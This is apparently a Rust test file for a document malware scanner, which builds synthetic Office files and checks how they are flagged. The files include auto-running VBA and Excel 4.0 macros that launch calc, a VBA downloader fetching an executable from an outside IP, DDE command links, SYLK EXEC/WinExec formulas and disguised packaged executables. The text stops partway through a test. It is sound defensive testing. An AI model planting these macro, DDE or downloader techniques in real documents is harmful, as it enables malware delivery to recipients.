//! Inside documents: OLE2 compound files stream by stream, VBA macros,
//! Excel 4.0 macro sheets (in BIFF8 and in OOXML packages), SYLK and RTF
//! embedded objects. Compound files
//! are written with the `cfb` crate's writer; everything in them (the VBA
//! project, BIFF8 records, OLE1 objects) field by field here.

use std::io::{Cursor, Write};

use crate::ole_writer::*;
use crate::util::*;
use xferscan::Verdict;

/// A Word document whose module runs AutoOpen and holds EICAR.
fn macro_doc(source: &[u8]) -> Vec<u8> {
    let project = vba_project("Macros", &[("NewMacros", source)]);
    with_streams(
        &[
            ("/WordDocument", &[0xec, 0xa5, 0xc1, 0x00][..]),
            ("/1Table", b"table"),
        ],
        &project,
    )
}

#[test]
fn vba_module_source_is_scanned_and_autorun_reported() {
    let mut src = b"Attribute VB_Name = \"NewMacros\"\r\nSub AutoOpen()\r\n  x = \"".to_vec();
    src.extend(eicar());
    src.extend_from_slice(b"\"\r\nEnd Sub\r\n");
    let r = scan("invoice.doc", macro_doc(&src));
    let (path, _) = deepest(&r);
    assert_eq!(path.name(), "<VBA source of NewMacros>", "{:?}", keys(&r));
    assert!(has_key(&r, "document.macro"), "{:?}", keys(&r));
    let auto = r
        .findings_with_key("document.macro.autorun")
        .next()
        .expect("autorun reported");
    assert!(auto.kind.describe().contains("AutoOpen"));
    assert_eq!(r.verdict, Verdict::Malicious);
}

/// A downloader in a macro is matched by the script rules: the module's
/// source is typed `vba`, one of the types those rules apply to, though
/// it does not read as a script file of its own.
#[test]
fn script_rules_match_macro_code() {
    let src = b"Attribute VB_Name = \"M\"\r\nSub Document_Open()\r\n\
        Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
        h.Open \"GET\", \"http://203.0.113.9/a.exe\", False\r\nh.Send\r\n\
        Set s = CreateObject(\"ADODB.Stream\")\r\nEnd Sub\r\n";
    let r = scan("report.doc", macro_doc(src));
    let hit = r
        .findings
        .iter()
        .find(|f| {
            matches!(&f.kind, xferscan::FindingKind::Signature(m) if m.rule == "VBS_Downloader")
        })
        .unwrap_or_else(|| panic!("no VBS_Downloader: {:?}", keys(&r)));
    assert_eq!(hit.path.name(), "<VBA source of NewMacros>");
    let module = r
        .objects
        .iter()
        .find(|o| o.path.name() == "<VBA source of NewMacros>")
        .unwrap();
    assert_eq!(module.types[0].ty.name(), "vba");
}

#[test]
fn a_macro_without_autorun_is_still_a_macro_document() {
    let src = b"Attribute VB_Name = \"M\"\r\nSub Helper()\r\nEnd Sub\r\n";
    let r = scan("a.doc", macro_doc(src));
    assert!(has_key(&r, "document.macro"), "{:?}", keys(&r));
    assert!(!has_key(&r, "document.macro.autorun"));
    assert!(has_key(&r, "type.macro_document"));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn vba_project_bin_inside_a_docm_is_reached() {
    let src = b"Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\nShell \"calc\"\r\nEnd Sub\r\n";
    let project = vba_project("", &[("ThisDocument", src)]);
    // vbaProject.bin has the VBA storage at its root.
    let project: Vec<(String, Vec<u8>)> = project
        .into_iter()
        .map(|(p, d)| (p.replacen("//", "/", 1), d))
        .collect();
    let bin = with_streams(&[], &project);
    let docm = zip_of(
        &[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", &bin),
        ],
        Method::Deflated,
    );
    let r = scan("report.docm", docm);
    let auto = r
        .findings_with_key("document.macro.autorun")
        .next()
        .unwrap_or_else(|| panic!("{:?}", keys(&r)));
    assert!(auto.kind.describe().contains("Document_Open"));
    assert!(
        auto.path
            .names()
            .iter()
            .any(|n| &**n == "word/vbaProject.bin")
    );
}

#[test]
fn an_xls_with_a_macro_sheet_and_auto_open_is_blocked() {
    let wb = workbook(&[("Sheet1", 0, 0), ("Macro1", 1, 2)], true);
    let xls = compound(&[("/Workbook", &wb)]);
    let r = scan("book.xls", xls);
    for k in [
        "document.xlm",
        "document.xlm.autorun",
        "document.sheet.very_hidden",
        "type.macro_document",
    ] {
        assert!(has_key(&r, k), "{k}: {:?}", keys(&r));
    }
    assert_eq!(r.verdict, Verdict::Malicious);
}

/// An Excel 97-2003 workbook (as a compound file) with one sheet and a
/// DDE link (`=cmd|'/c calc'!A0` as Excel saves it): a SUPBOOK record of
/// no sheets, the server and the topic apart by 0x03.
fn dde_workbook(server: &str, topic: &str) -> Vec<u8> {
    let path = format!("{server}\u{3}{topic}");
    let mut supbook = vec![0, 0];
    supbook.extend((path.len() as u16).to_le_bytes());
    supbook.push(0);
    supbook.extend(path.as_bytes());
    let mut wb = Vec::new();
    biff(
        &mut wb,
        0x0809,
        &[0, 6, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0],
    );
    biff(&mut wb, 0x0085, &boundsheet("Sheet1", 0, 0));
    biff(&mut wb, 0x01ae, &supbook);
    biff(&mut wb, 0x000a, &[]);
    compound(&[("/Workbook", &wb)])
}

#[test]
fn an_xls_dde_link_to_a_command_interpreter_is_blocked() {
    let r = scan("invoice.xls", dde_workbook("cmd", "/c calc"));
    assert!(has_key(&r, "document.dde.command"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn an_xls_dde_link_to_another_program_is_flagged_not_blocked() {
    let r = scan("prices.xls", dde_workbook("WINWORD", "report.docx"));
    assert!(has_key(&r, "document.dde"), "{:?}", keys(&r));
    assert!(!has_key(&r, "document.dde.command"), "{:?}", keys(&r));
    assert_ne!(r.verdict, Verdict::Malicious);
}

/// A workbook with a very hidden macro sheet run by Auto_Open, and a
/// string record that holds EICAR after the last substream.
fn workbook_with_eicar() -> Vec<u8> {
    let mut wb = workbook(&[("Sheet1", 0, 0), ("Macro1", 1, 2)], true);
    biff(&mut wb, 0x00fc, &eicar());
    wb
}

#[test]
fn a_velvet_sweatshop_xls_is_read_decrypted() {
    let wb = rc4_cryptoapi_workbook(&workbook_with_eicar(), "VelvetSweatshop");
    let r = scan("invoice.xls", compound(&[("/Workbook", &wb)]));
    assert_eq!(
        encrypted(&r),
        [("biff8-rc4-cryptoapi".to_owned(), true)],
        "{:#?}",
        r.findings
    );
    for k in [
        "document.xlm",
        "document.xlm.autorun",
        "document.sheet.very_hidden",
        "type.macro_document",
    ] {
        assert!(has_key(&r, k), "{k}: {:?}", keys(&r));
    }
    // The decrypted stream is matched: EICAR in a record.
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn an_xls_with_a_password_of_its_own_stays_encrypted() {
    let wb = rc4_cryptoapi_workbook(&workbook_with_eicar(), "Quarterly-2026!");
    let r = scan("invoice.xls", compound(&[("/Workbook", &wb)]));
    assert_eq!(encrypted(&r), [("biff8-rc4-cryptoapi".to_owned(), false)]);
    assert!(!found_eicar(&r) && !has_key(&r, "document.xlm"));
    assert_ne!(r.verdict, Verdict::Clean, "never a silent clean");
}

#[test]
fn an_xls_a_candidate_password_opens_is_read_decrypted() {
    // The password named by the mail that carries it, or given by the
    // host: detection (VelvetSweatshop only) says it stayed encrypted,
    // the unpacker opens it and says so beside.
    let wb = rc4_cryptoapi_workbook(&workbook_with_eicar(), "Quarterly-2026!");
    let doc = compound(&[("/Workbook", &wb)]);
    let opts = xferscan::ScanOptions::new().message_text("Password: Quarterly-2026!");
    let r = engine().scan_bytes_with("invoice.xls", doc, &opts);
    assert_eq!(
        encrypted(&r),
        [
            ("biff8-rc4-cryptoapi".to_owned(), false),
            ("biff8-rc4-cryptoapi".to_owned(), true)
        ],
        "{:#?}",
        r.findings
    );
    for k in [
        "document.xlm",
        "document.xlm.autorun",
        "document.sheet.very_hidden",
    ] {
        assert!(has_key(&r, k), "{k}: {:?}", keys(&r));
    }
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn an_ordinary_protected_xls_is_only_encrypted() {
    // Clean control: an ordinary workbook that Excel protected.
    let wb = workbook(&[("Sheet1", 0, 0), ("Sheet2", 0, 1)], false);
    let wb = rc4_cryptoapi_workbook(&wb, "VelvetSweatshop");
    let r = scan("budget.xls", compound(&[("/Workbook", &wb)]));
    assert_eq!(encrypted(&r), [("biff8-rc4-cryptoapi".to_owned(), true)]);
    let other = acted_beside_encryption(&r);
    assert!(other.is_empty(), "{other:#?}");
}

#[test]
fn a_very_hidden_worksheet_is_flagged() {
    let wb = workbook(&[("Sheet1", 0, 0), ("Data", 0, 2)], false);
    let r = scan("book.xls", compound(&[("/Workbook", &wb)]));
    assert!(has_key(&r, "document.sheet.very_hidden"), "{:?}", keys(&r));
    assert!(!has_key(&r, "document.xlm"));
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn plain_compound_files_and_workbooks_are_clean() {
    let wb = workbook(
        &[("Sheet1", 0, 0), ("Sheet2", 0, 1), ("Chart1", 2, 0)],
        false,
    );
    assert_clean(&scan("book.xls", compound(&[("/Workbook", &wb)])));
    let doc = compound(&[
        ("/WordDocument", &[0xec, 0xa5, 0xc1, 0x00][..]),
        ("/1Table", b"table"),
        ("/\u{5}SummaryInformation", &[0xfe, 0xff, 0, 0]),
        ("/ObjectPool/_1/\u{1}CompObj", b"compobj"),
        ("/ObjectPool/_1/CONTENTS", b"chart data"),
    ]);
    let r = scan("letter.doc", doc);
    assert_clean(&r);
    // Every stream was a child, named by its path.
    let names: Vec<String> = r.objects.iter().map(|o| o.path.name().to_owned()).collect();
    assert!(
        names.iter().any(|n| n == "ObjectPool/_1/\\x01CompObj"),
        "{names:?}"
    );
    assert!(names.iter().any(|n| n == "1Table"), "{names:?}");
}

#[test]
fn a_packaged_file_is_scanned_under_its_own_name() {
    let native = ole10native(
        "invoice.pdf",
        "C:\\Users\\a\\invoice.pdf.exe",
        &tiny_pe(false),
    );
    let doc = compound(&[
        ("/WordDocument", &[0xec, 0xa5][..]),
        ("/ObjectPool/_1234/\u{1}Ole10Native", &native),
    ]);
    let r = scan("a.doc", doc);
    let exe = r
        .objects
        .iter()
        .find(|o| o.path.name() == "invoice.pdf.exe")
        .unwrap_or_else(|| panic!("{:?}", r.objects));
    assert_eq!(exe.types[0].ty.name(), "pe-exe");
    assert!(has_key(&r, "name.double_extension"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    // EICAR in a packaged text file.
    let native = ole10native("a.txt", "C:\\tmp\\a.txt", &eicar());
    let doc = compound(&[("/ObjectPool/_1/\u{1}Ole10Native", &native)]);
    let r = scan("b.doc", doc);
    assert!(
        r.signatures().any(|(p, _)| p.name() == "a.txt"),
        "{:?}",
        keys(&r)
    );
}

#[test]
fn an_outlook_attachment_is_named_by_its_file_name() {
    let name: Vec<u8> = "note.txt"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let msg = compound(&[
        ("/__substg1.0_0037001F", &[0x68, 0][..]),
        ("/__attach_version1.0_#00000000/__substg1.0_3707001F", &name),
        (
            "/__attach_version1.0_#00000000/__substg1.0_37010102",
            &eicar(),
        ),
    ]);
    let r = scan("mail.msg", msg);
    assert!(
        r.signatures().any(|(p, _)| p.name() == "note.txt"),
        "{:?}",
        r.objects.iter().map(|o| o.path.name()).collect::<Vec<_>>()
    );
}

/// Compound files match names without regard to case, and so does
/// Outlook: a message whose property streams are named in lower case
/// (`..._3707001f`) still names its attachment.
#[test]
fn an_outlook_attachment_named_in_lower_case_streams() {
    let name: Vec<u8> = "invoice.js"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let msg = compound(&[
        ("/__substg1.0_0037001f", &[0x68, 0][..]),
        ("/__ATTACH_version1.0_#00000000/__substg1.0_3707001f", &name),
        (
            "/__ATTACH_version1.0_#00000000/__substg1.0_37010102",
            b"var s = 1;\r\n",
        ),
    ]);
    let r = scan("mail.msg", msg);
    assert!(
        r.objects.iter().any(|o| o.path.name() == "invoice.js"),
        "{:?}",
        r.objects.iter().map(|o| o.path.name()).collect::<Vec<_>>()
    );
    assert!(has_key(&r, "name.blocked_extension"), "{:?}", keys(&r));
}

#[test]
fn a_broken_compound_file_is_malformed_not_clean() {
    let mut doc = compound(&[("/WordDocument", &[0u8; 5000][..])]);
    doc.truncate(600);
    let r = scan("cut.doc", doc);
    assert!(has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn sylk_with_exec_is_a_macro_document() {
    let slk = b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n";
    let r = scan("data.slk", slk.to_vec());
    assert!(has_key(&r, "document.xlm"), "{:?}", keys(&r));
    assert!(has_key(&r, "document.xlm.autorun"), "{:?}", keys(&r));
    assert!(has_key(&r, "type.macro_document"));
    assert_eq!(r.verdict, Verdict::Malicious);
    // Without the option record or name: the formula alone.
    let r = scan(
        "x.slk",
        b"ID;P\r\nC;X1;Y1;K0;ECALL(\"kernel32\",\"WinExec\")\r\nE\r\n".to_vec(),
    );
    assert!(has_key(&r, "document.xlm"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn a_plain_sylk_spreadsheet_is_clean() {
    let slk = b"ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K\"Name\"\r\nC;Y1;X2;K\"Total\"\r\nC;Y2;X2;K7;ESUM(R1C3:R1C4)\r\nE\r\n";
    let r = scan("table.slk", slk.to_vec());
    assert_eq!(r.objects[0].types[0].ty.name(), "sylk");
    assert_clean(&r);
}

#[test]
fn an_equation_editor_storage_is_blocked() {
    let mut cf =
        cfb::CompoundFile::create_with_version(cfb::Version::V3, Cursor::new(Vec::new())).unwrap();
    cf.set_storage_clsid(
        "/",
        uuid::Uuid::parse_str("0002ce02-0000-0000-c000-000000000046").unwrap(),
    )
    .unwrap();
    cf.create_stream("/Equation Native")
        .unwrap()
        .write_all(&[0x1c, 0, 0, 0, 2, 0])
        .unwrap();
    cf.flush().unwrap();
    let r = scan("obj.bin", cf.into_inner().into_inner());
    assert!(has_key(&r, "document.equation"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]
    /// Compound files and RTF with bytes overwritten anywhere scan to a
    /// report: no panic, nothing unbounded (a stand-in, in the test run,
    /// for the `unpack_ole` and `unpack_rtf` fuzz targets).
    #[test]
    fn damaged_documents_scan_to_a_report(
        edits in proptest::collection::vec((proptest::num::usize::ANY, proptest::num::u8::ANY), 1..12),
        rtf in proptest::bool::ANY,
    ) {
        let src = b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nEnd Sub\r\n";
        let mut data = if rtf {
            let obj = ole1("Package", &package("a.txt", "a.txt", b"hello"));
            rtf_with_object("Package", &ugly_hex(&obj))
        } else {
            with_streams(
                &[("/Workbook", &workbook(&[("Macro1", 1, 2)], true)[..])],
                &vba_project("Macros", &[("M", src)]),
            )
        };
        for (at, b) in edits {
            let n = data.len();
            data[at % n] = b;
        }
        let r = scan("damaged", data);
        proptest::prop_assert!(!r.objects.is_empty());
    }
}

/// ActiveMime as Office writes `editdata.mso`: its magic, a header whose
/// 16-bit field at 0x1E plus 46 is where the zlib stream of the compound
/// file starts (`offset`, Word's 0x32 by default).
fn active_mime(ole: &[u8], offset: usize, field: u16) -> Vec<u8> {
    let mut v = b"ActiveMime".to_vec();
    v.resize(0x1e, 0);
    v.extend(field.to_le_bytes());
    v.resize(offset, 0);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(ole).unwrap();
    v.extend(z.finish().unwrap());
    v
}

/// A VBA project whose module runs Document_Open, as the compound file
/// that ActiveMime wraps.
fn project_bin() -> Vec<u8> {
    let src = b"Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Open()\r\nShell \"calc\"\r\nEnd Sub\r\n";
    let project: Vec<(String, Vec<u8>)> = vba_project("", &[("ThisDocument", src)])
        .into_iter()
        .map(|(p, d)| (p.replacen("//", "/", 1), d))
        .collect();
    with_streams(&[], &project)
}

fn word_xml(bindata: &[(&str, &[u8])]) -> Vec<u8> {
    let mut doc = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n\
        <?mso-application progid=\"Word.Document\"?>\n\
        <w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">\
        <w:body><w:p><w:r><w:t>Please enable content</w:t></w:r></w:p></w:body>"
        .to_vec();
    if !bindata.is_empty() {
        doc.extend(b"<w:docSuppData>");
        for (name, data) in bindata {
            doc.extend(format!("<w:binData w:name=\"{name}\">\n").into_bytes());
            for line in b64(data).chunks(76) {
                doc.extend(line);
                doc.push(b'\n');
            }
            doc.extend(b"</w:binData>");
        }
        doc.extend(b"</w:docSuppData>");
    }
    doc.extend(b"</w:wordDocument>\n");
    doc
}

#[test]
fn macros_of_a_word_2003_xml_document_are_found() {
    let mso = active_mime(&project_bin(), 0x32, 4);
    let r = scan("invoice.doc", word_xml(&[("editdata.mso", &mso)]));
    let auto = r
        .findings_with_key("document.macro.autorun")
        .next()
        .unwrap_or_else(|| panic!("{:?}", keys(&r)));
    assert!(auto.kind.describe().contains("Document_Open"));
    assert!(auto.path.names().iter().any(|n| &**n == "editdata.mso"));
    assert_eq!(r.verdict, Verdict::Malicious);
    // The stream elsewhere than the header says (Excel's 0x22A, or any
    // place): still found.
    for (offset, field) in [(0x22a, 4), (0x61, 0x3000)] {
        let mso = active_mime(&project_bin(), offset, field);
        let r = scan("invoice.xml", word_xml(&[("editdata.mso", &mso)]));
        assert!(
            has_key(&r, "document.macro.autorun"),
            "{offset:#x}: {:?}",
            keys(&r)
        );
    }
    // Controls: a Word XML document with a picture, and one with none.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde";
    assert_clean(&scan(
        "letter.xml",
        word_xml(&[("wordml://02000001.png", png)]),
    ));
    assert_clean(&scan("letter.xml", word_xml(&[])));
}

#[test]
fn macros_of_a_single_file_web_page_document_are_found() {
    // Word's "Single File Web Page" (.mht, often renamed .doc): MIME whose
    // editdata.mso part is ActiveMime.
    let mso = active_mime(&project_bin(), 0x32, 4);
    let mut mail = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01D\"\r\n\r\n\
        ------=_NextPart_01D\r\nContent-Location: file:///C:/doc.htm\r\nContent-Type: text/html; charset=\"us-ascii\"\r\n\r\n\
        <html><body><p>Please enable content</p></body></html>\r\n\
        ------=_NextPart_01D\r\nContent-Location: file:///C:/doc_files/editdata.mso\r\n\
        Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
        .to_vec();
    for line in b64(&mso).chunks(76) {
        mail.extend(line);
        mail.extend(b"\r\n");
    }
    mail.extend(b"\r\n------=_NextPart_01D--\r\n");
    let r = scan("invoice.doc", mail);
    assert!(has_key(&r, "document.macro.autorun"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    // ActiveMime without a stream where any reader looks: said.
    let mut broken = b"ActiveMime".to_vec();
    broken.resize(0x300, 0);
    let r = scan("editdata.mso", broken);
    assert!(has_key(&r, "unscannable.malformed"), "{:?}", keys(&r));
    assert_ne!(r.verdict, Verdict::Clean);
}

/// An xlsm (or xlsb, or one renamed .xlsx) whose macro sheet runs
/// EXEC from `_xlnm.Auto_Open`: no VBA project at all, the Excel 4.0 macros
/// of 2021's malspam in OOXML.
fn xlm_package(sheet_part: &str, workbook: &str) -> Vec<u8> {
    let rels = format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
         <Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"{}\"/></Relationships>",
        sheet_part.trim_start_matches("xl/")
    );
    let macro_sheet = b"<?xml version=\"1.0\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
        xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(&quot;cmd /c calc&quot;)</f></c></row>\
        <row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";
    zip_of(
        &[
            (
                "[Content_Types].xml",
                &b"<?xml version=\"1.0\"?><Types/>"[..],
            ),
            ("xl/workbook.xml", workbook.as_bytes()),
            ("xl/_rels/workbook.xml.rels", rels.as_bytes()),
            (sheet_part, &macro_sheet[..]),
        ],
        Method::Deflated,
    )
}

#[test]
fn excel_4_macro_sheets_in_ooxml_are_blocked() {
    let wb = "<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheets>\
        <sheet name=\"Sheet1\" sheetId=\"1\"/><sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\"/></sheets>\
        <definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames></workbook>";
    // Under its usual name, and renamed where only the relationship or the
    // root element tells what it is.
    for part in [
        "xl/macrosheets/sheet1.xml",
        "xl/worksheets/sheet2.xml",
        "xl/x.xml",
    ] {
        for name in ["invoice.xlsm", "invoice.xlsx"] {
            let r = scan(name, xlm_package(part, wb));
            assert!(has_key(&r, "document.xlm"), "{part}: {:?}", keys(&r));
            assert!(
                has_key(&r, "document.xlm.autorun"),
                "{part}: {:?}",
                keys(&r)
            );
            assert!(has_key(&r, "document.sheet.very_hidden"), "{:?}", keys(&r));
            assert_eq!(r.verdict, Verdict::Malicious, "{part} {name}");
        }
    }
}

#[test]
fn an_ordinary_workbook_with_names_and_hidden_sheets_is_clean() {
    let wb = "<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheets>\
        <sheet name=\"Data\" sheetId=\"1\"/><sheet name=\"Lookup\" sheetId=\"2\" state=\"hidden\"/></sheets>\
        <definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">Data!$A$1:$D$20</definedName>\
        <definedName name=\"Rates\">Lookup!$A:$B</definedName></definedNames></workbook>";
    let sheet = b"<?xml version=\"1.0\"?><worksheet><sheetData><row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>";
    let z = zip_of(
        &[
            (
                "[Content_Types].xml",
                &b"<?xml version=\"1.0\"?><Types/>"[..],
            ),
            ("xl/workbook.xml", wb.as_bytes()),
            ("xl/worksheets/sheet1.xml", &sheet[..]),
        ],
        Method::Deflated,
    );
    assert_clean(&scan("budget.xlsx", z));
}

/// A compound file whose DIFAT lists one FAT sector a million times: the
/// `cfb` crate would build a FAT of 4 GB from a file of 4 MB. Refused as
/// malformed, never clean, in bounded memory.
#[test]
fn a_difat_that_lists_one_sector_a_million_times_is_malformed() {
    const S: usize = 4096;
    let difat_sectors = 1000u32;
    let mut f = vec![0u8; S];
    f[..8].copy_from_slice(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    f[0x18..0x1a].copy_from_slice(&0x3eu16.to_le_bytes());
    f[0x1a..0x1c].copy_from_slice(&4u16.to_le_bytes());
    f[0x1c..0x1e].copy_from_slice(&0xfffeu16.to_le_bytes());
    f[0x1e..0x20].copy_from_slice(&12u16.to_le_bytes());
    f[0x20..0x22].copy_from_slice(&6u16.to_le_bytes());
    f[0x2c..0x30].copy_from_slice(&0xffff_fff0u32.to_le_bytes());
    f[0x30..0x34].copy_from_slice(&0xffff_fffeu32.to_le_bytes());
    f[0x38..0x3c].copy_from_slice(&4096u32.to_le_bytes());
    f[0x44..0x48].copy_from_slice(&1u32.to_le_bytes());
    f[0x48..0x4c].copy_from_slice(&difat_sectors.to_le_bytes());
    for i in 0..109 {
        f[0x4c + 4 * i..0x50 + 4 * i].copy_from_slice(&0u32.to_le_bytes());
    }
    // Sector 0: a FAT sector.
    f.extend(vec![0xffu8; S]);
    for s in 1..=difat_sectors {
        let mut sector = vec![0u8; S - 4];
        let next = if s == difat_sectors {
            0xffff_fffe
        } else {
            s + 1
        };
        sector.extend(next.to_le_bytes());
        f.extend(sector);
    }
    let r = scan("report.doc", f);
    let said: Vec<_> = r.findings_with_key("unscannable.malformed").collect();
    assert!(
        format!("{said:?}").contains("DIFAT lists 1023109 FAT sectors"),
        "{said:?}"
    );
    assert_ne!(r.verdict, Verdict::Clean);
}

/// Storages nested five hundred deep: listed to the depth limit, the rest
/// a limit finding; what is within it is read.
#[test]
fn storages_nested_past_the_depth_limit_are_a_limit_and_the_rest_is_read() {
    let deep = format!("{}/d.txt", "/s".repeat(500));
    let mid = format!("{}/e.txt", "/m".repeat(10));
    let e = eicar();
    let doc = compound(&[("/readme.txt", b"hello"), (&mid, &e), (&deep, b"deep")]);
    let r = scan("a.doc", doc);
    assert!(found_eicar(&r), "{:?}", keys(&r));
    assert!(has_key(&r, "limit.depth"), "{:?}", keys(&r));
    let doc = compound(&[("/readme.txt", b"hello"), (&mid, b"text")]);
    assert_clean(&scan("a.doc", doc));
}

/// One PowerPoint record: version and instance, type, length, body.
fn ppt_record(ver: u16, instance: u16, ty: u16, body: &[u8]) -> Vec<u8> {
    let mut r = (ver | instance << 4).to_le_bytes().to_vec();
    r.extend(ty.to_le_bytes());
    r.extend((body.len() as u32).to_le_bytes());
    r.extend(body);
    r
}

/// A theme zip as Office 2007 and later keep it inside binary documents.
fn theme_zip(layout: bool) -> Vec<u8> {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", b"<Types/>"),
        ("_rels/.rels", b"<Relationships/>"),
        ("theme/theme/theme1.xml", b"<a:theme/>"),
    ];
    if layout {
        parts.push(("drs/slideLayouts/slideLayout1.xml", b"<p:sldLayout/>"));
    }
    zip_of(&parts, Method::Deflated)
}

/// Word, Excel and PowerPoint 2007 and later keep their themes and layouts
/// as zips inside 97-2003 documents: those are read as the zips they are,
/// not as archives glued inside a stream (a polyglot, and in a
/// presentation "several archives in one file", which blocked every
/// .ppt they saved).
#[test]
fn office_theme_zips_inside_binary_documents_are_no_alarm() {
    let mut deck = Vec::new();
    for i in 0..6 {
        deck.extend(ppt_record(0, 0, 0x0ff5, &[i; 12]));
        deck.extend(ppt_record(0, 0, 0x040e, &theme_zip(i % 2 == 0)));
    }
    let ppt = compound(&[("PowerPoint Document", &deck), ("Current User", &[0; 32])]);
    let mut table = vec![0x22; 300];
    table.extend(theme_zip(false));
    table.extend([0x33; 100]);
    let doc = compound(&[
        ("WordDocument", &[0xec, 0xa5, 0xc1, 0][..]),
        ("1Table", &table),
    ]);
    for (name, d) in [("slides.ppt", ppt), ("letter.doc", doc)] {
        let r = scan(name, d);
        assert_clean(&r);
        assert!(
            r.objects
                .iter()
                .any(|o| o.path.name().starts_with("<Office part zip")),
            "{name}"
        );
    }
    // Any other zip in the stream is still an archive glued inside it.
    let mut table = vec![0x22; 300];
    table.extend(zip_of(
        &[("theme/theme/theme1.xml", b"<a/>"), ("run.js", b"x")],
        Method::Deflated,
    ));
    table.extend([0x33; 100]);
    let doc = compound(&[
        ("WordDocument", &[0xec, 0xa5, 0xc1, 0][..]),
        ("1Table", &table),
    ]);
    let r = scan("letter.doc", doc);
    assert!(has_key(&r, "type.polyglot"), "{:?}", keys(&r));
    assert_ne!(r.verdict, Verdict::Clean);
}

/// PowerPoint keeps its VBA project and embedded objects as compound files
/// inside its records (ExOleObjStg), zlib-compressed or not: both are read.
#[test]
fn powerpoint_97_macros_and_objects_are_read() {
    let src = b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\nEnd Sub\r\n";
    let project = with_streams(&[], &vba_project("", &[("Module1", src)]));
    let mut packed = (project.len() as u32).to_le_bytes().to_vec();
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&project).unwrap();
    packed.extend(z.finish().unwrap());
    let object = compound(&[(
        "\u{1}Ole10Native",
        &ole10native("calc.lnk", "C:\\calc.lnk", &tiny_pe(false)),
    )]);
    for (what, storage) in [
        ("compressed VBA", ppt_record(0, 1, 0x1011, &packed)),
        ("plain object", ppt_record(0, 0, 0x1011, &object)),
    ] {
        let mut deck = ppt_record(0, 0, 0x0ff5, &[0; 12]);
        deck.extend(ppt_record(
            0xf,
            0,
            0x03e8,
            &ppt_record(0, 0, 0x03e9, &[0; 40]),
        ));
        deck.extend(storage);
        let ppt = compound(&[("PowerPoint Document", &deck), ("Current User", &[0; 32])]);
        let r = scan("slides.ppt", ppt);
        assert_eq!(r.verdict, Verdict::Malicious, "{what}: {:?}", keys(&r));
        if what == "compressed VBA" {
            assert!(has_key(&r, "document.macro"), "{:?}", keys(&r));
            assert!(has_key(&r, "document.macro.autorun"), "{:?}", keys(&r));
        } else {
            assert!(
                r.objects.iter().any(|o| o.path.name() == "calc.lnk"),
                "{:?}",
                keys(&r)
            );
        }
    }
}

/// A DDE field in a Word 97-2003 document, in its 8-bit or its UTF-16
/// text, runs its command as the same field in a docx does.
#[test]
fn a_dde_field_in_a_word_97_document_is_read() {
    let mut narrow = vec![0xec, 0xa5, 0xc1, 0x00];
    narrow.resize(512, 0);
    let mut wide = narrow.clone();
    narrow.extend(
        b"Dear sir,\r\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \x14!\x15\r",
    );
    wide.extend(
